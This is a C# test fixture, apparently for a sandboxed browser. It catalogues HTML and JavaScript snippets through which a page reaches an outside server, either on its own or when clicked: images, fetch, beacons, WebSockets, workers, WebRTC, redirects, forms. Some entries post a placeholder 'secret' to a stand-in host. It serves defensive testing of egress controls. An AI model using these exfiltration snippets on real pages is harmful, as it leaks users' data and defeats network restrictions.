namespace Qwen.Screens.Browser.Tests.Attacks;

/// <summary>Ways in which a page reaches another server: by itself, and when it is touched.</summary>
internal static class ReachAttacks
{
    /// <summary>By itself: markup or script for an address that ends in a slash, and whether it arrives where it may.</summary>
    public static IReadOnlyList<(string Name, string Html, bool Arrives)> Silent { get; } =
    [
        ("picture", "<img src='{0}v/picture'>", true),
        ("picture of several sizes", "<img srcset='{0}v/srcset 1x'>", true),
        ("style sheet", "<link rel=stylesheet href='{0}v/sheet'>", true),
        ("imported style", "<style>@import '{0}v/import';</style>", true),
        ("background", "<div style='background:url({0}v/background);width:9px;height:9px'></div>", true),
        ("font", "<style>@font-face {{ font-family: f; src: url({0}v/font) }}</style><p style='font-family:f'>x</p>", true),
        ("script", "<script src='{0}v/script'></script>", true),
        ("module", "<script type=module>import('{0}v/module').catch(() => 0)</script>", true),
        ("frame", "<iframe src='{0}v/frame' width=9 height=9></iframe>", true),
        ("object", "<object data='{0}v/object' width=9 height=9></object>", true),
        ("embedded", "<embed src='{0}v/embed' type='text/html' width=9 height=9>", true),
        ("video", "<video src='{0}v/video' preload=auto></video>", true),
        ("sound", "<audio src='{0}v/audio' preload=auto></audio>", true),
        ("icon", "<link rel=icon href='{0}v/icon'>", false),
        ("preload", "<link rel=preload as=image href='{0}v/preload'>", true),
        ("prefetch", "<link rel=prefetch href='{0}v/prefetch'>", false),
        ("preconnect", "<link rel=preconnect href='{0}'><link rel=dns-prefetch href='{0}'>", false),
        (
            "speculation",
            "<script type=speculationrules>{{\"prerender\":[{{\"source\":\"list\",\"urls\":[\"{0}v/speculation\"]}}]}}</script>",
            false),
        ("fetch", "<script>fetch('{0}v/fetch', {{ mode: 'no-cors' }}).catch(() => 0)</script>", true),
        (
            "post with a body",
            "<script>fetch('{0}v/post', {{ method: 'POST', mode: 'no-cors', body: 'secret' }}).catch(() => 0)</script>",
            true),
        ("old request", "<script>{{ const x = new XMLHttpRequest(); x.open('GET', '{0}v/xhr'); x.send() }}</script>", true),
        ("beacon", "<script>navigator.sendBeacon('{0}v/beacon', 'secret')</script>", true),
        ("events", "<script>new EventSource('{0}v/events')</script>", true),
        ("socket", "<script>try {{ new WebSocket('{0}v/socket'.replace('http', 'ws')) }} catch {{ }}</script>", true),
        (
            "worker's fetch",
            "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{0}v/worker', {{ mode: 'no-cors' }}).catch(() => 0)`])))</script>",
            true),
        (
            "worker's script",
            "<script>new Worker(URL.createObjectURL(new Blob([`try {{ importScripts('{0}v/scripts') }} catch {{ }}`])))</script>",
            true),
        (
            "worker's socket",
            "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket('{0}v/wsocket'.replace('http', 'ws'))`])))</script>",
            true),
        (
            "shared worker",
            "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('{0}v/shared', {{ mode: "
            + "'no-cors' }}).catch(() => 0)`])))</script>",
            true),
        (
            "form into a frame",
            "<iframe name=in width=9 height=9></iframe><form id=fo target=in method=post action='{0}v/form'><input name=a "
            + "value=secret></form><script>fo.submit()</script>",
            true),
        (
            "refresh in a frame",
            "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={0}v/refresh'>\" width=9 height=9></iframe>",
            true),
        ("frame of a frame", "<iframe srcdoc=\"<iframe src='{0}v/nested'></iframe>\" width=9 height=9></iframe>", true),
        (
            "shut frame",
            "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{0}v/shut', {{ mode: "
            + "'no-cors' }}).catch(() => 0)</script>\" width=9 height=9></iframe>",
            true),
        ("data frame", "<iframe src=\"data:text/html,<img src='{0}v/data'>\" width=9 height=9></iframe>", true),
        ("redirected picture", "<img src='/hop?{0}v/hoppicture'>", true),
        ("redirected fetch", "<script>fetch('/hop?{0}v/hopfetch', {{ mode: 'no-cors' }}).catch(() => 0)</script>", true),
        ("redirected frame", "<iframe src='/hop?{0}v/hopframe' width=9 height=9></iframe>", true),
        (
            "redirected post",
            "<script>fetch('/hop?{0}v/hoppost', {{ method: 'POST', mode: 'no-cors', body: 'secret' }}).catch(() => 0)</script>",
            true),
        (
            "call of peers",
            "<script>try {{ const u = new URL('{0}'); const p = new RTCPeerConnection({{ iceServers: [`turn:${{u.host}}?transport=tcp`, "
            + "`turn:${{u.host}}`, `turns:${{u.host}}`].map(urls => ({{ urls, username: 'a', credential: 'b' }})).concat({{ urls: "
            + "`stun:${{u.host}}` }}) }}); p.createDataChannel('x'); p.createOffer().then(o => "
            + "p.setLocalDescription(o)) }} catch {{ }}</script>",
            false),
        (
            "call of peers from a frame",
            "<iframe id=rtc width=9 height=9></iframe><script>try {{ const P = rtc.contentWindow.RTCPeerConnection; "
            + "const u = new URL('{0}'); const p = new P({{ iceServers: [{{ urls: `turn:${{u.host}}?transport=tcp`, username: 'a', "
            + "credential: 'b' }}, {{ urls: `stun:${{u.host}}` }}] }}); p.createDataChannel('x'); "
            + "p.createOffer().then(o => p.setLocalDescription(o)) }} catch {{ }}</script>",
            false),
        ("transport", "<script>try {{ new WebTransport('{0}v/transport'.replace('http:', 'https:')) }} catch {{ }}</script>", false),
        (
            "worker's transport",
            "<script>new Worker(URL.createObjectURL(new Blob([`try {{ new WebTransport('{0}v/wtransport'.replace('http:', 'https:')) }} "
            + "catch {{ }}`])))</script>", false),
        ("service worker", "<script>navigator.serviceWorker?.register('/worker.js').catch(() => 0)</script>", false),
        (
            "report",
            "<script>new ReportingObserver(() => 0).observe()</script><meta http-equiv='Content-Security-Policy-Report-Only' "
            + "content='img-src none; report-uri {0}v/report'>",
            false),
        ("window by itself", "<script>window.open('{0}v/window')</script>", false),
    ];

    /// <summary>
    /// When touched: markup for an address that ends in a slash, touched in its middle, and whether it arrives where it may.
    /// </summary>
    public static IReadOnlyList<(string Name, string Html, bool Arrives)> Touched { get; } =
    [
        ("link", "<a href='{0}v/link'>Notes</a>", true),
        ("link into a window", "<a href='{0}v/blank' target=_blank>Notes</a>", true),
        ("link into a window with an opener", "<a href='{0}v/opener' target=_blank rel=opener>Notes</a>", true),
        ("link that is saved", "<a href='{0}v/saved' download>Notes</a>", false),
        ("link that tells", "<a href='#here' ping='{0}v/ping'>Notes</a>", true),
        ("window", "<button onclick=\"window.open('{0}v/open')\">Notes</button>", true),
        (
            "window that is led away",
            "<button onclick=\"const w = window.open('about:blank'); w.location = '{0}v/led'\">Notes</button>",
            true),
        ("window that is redirected", "<button onclick=\"window.open('/hop?{0}v/hopwindow')\">Notes</button>", true),
        ("form", "<form action='{0}v/get'><input name=a value=secret hidden><button>Notes</button></form>", true),
        ("form with a body", "<form action='{0}v/body' method=post><input name=a value=secret hidden><button>Notes</button></form>", true),
        ("form into a window", "<form action='{0}v/formwindow' method=post target=_blank><button>Notes</button></form>", true),
        ("form led by its button", "<form action='/here'><button formaction='{0}v/led2'>Notes</button></form>", true),
        (
            "form that is redirected",
            "<form action='/hop' method=get><button formaction='/hop?{0}v/hopform' "
            + "formmethod=post>Notes</button></form>", true),
        ("address", "<button onclick=\"location = '{0}v/location'\">Notes</button>", true),
        ("address replaced", "<button onclick=\"location.replace('{0}v/replaced')\">Notes</button>", true),
        ("address redirected", "<button onclick=\"location = '/hop?{0}v/hoplocation'\">Notes</button>", true),
        (
            "refresh",
            "<button onclick=\"document.head.insertAdjacentHTML('beforeend', "
            + "`<meta http-equiv=refresh content='0;url={0}v/refreshed'>`)\">Notes</button>", true),
        ("link of a base", "<base href='{0}'><a href='v/base'>Notes</a>", true),
        ("link of a drawing", "<svg width=140 height=30><a href='{0}v/drawing'><text y=20>Notes</text></a></svg>", true),
        (
            "part of a picture",
            "<map name=m><area shape=default href='{0}v/area' alt=Notes></map><img usemap='#m' width=140 height=30 alt=Notes "
            + "src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'>", true),
        (
            "frame that leads the page",
            "<iframe width=140 height=30 srcdoc=\"<button style='width:100%' "
            + "onclick=&quot;top.location='{0}v/top'&quot;>Notes</button>\"></iframe>", true),
    ];
}
